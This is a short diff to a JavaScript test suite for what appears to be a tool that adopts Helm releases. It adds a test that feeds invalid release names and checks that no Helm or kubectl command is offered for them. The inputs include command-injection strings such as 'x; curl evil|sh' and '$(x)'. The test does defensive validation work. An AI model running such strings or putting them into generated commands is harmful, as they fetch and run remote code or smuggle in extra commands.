@@ -304,6 +304,16 @@ describe("the step replace of an adoption", () => {
         assert.doesNotMatch(await notice(all(imported), step, "forbidden"), /Helm/);
     });
 
+    it("takes nothing for a release's name that Helm wouldn't", async () => {
+        for (const name of ["x; curl evil|sh", "$(x)", "x\nRun: y", "X", "a..b", "-a", ""]) {
+            const released = all((found) => ({
+                ...imported(found),
+                annotations: { "meta.helm.sh/release-name": name },
+            }));
+            assert.doesNotMatch(await notice(released, step, "forbidden"), /Helm|kubectl/, name);
+        }
+    });
+
     it("says what it interrupts, and afterwards that it is done", async () => {
         const patient = withSpec(imported(deployment), {
             template: { spec: { terminationGracePeriodSeconds: 45, containers: [] } },
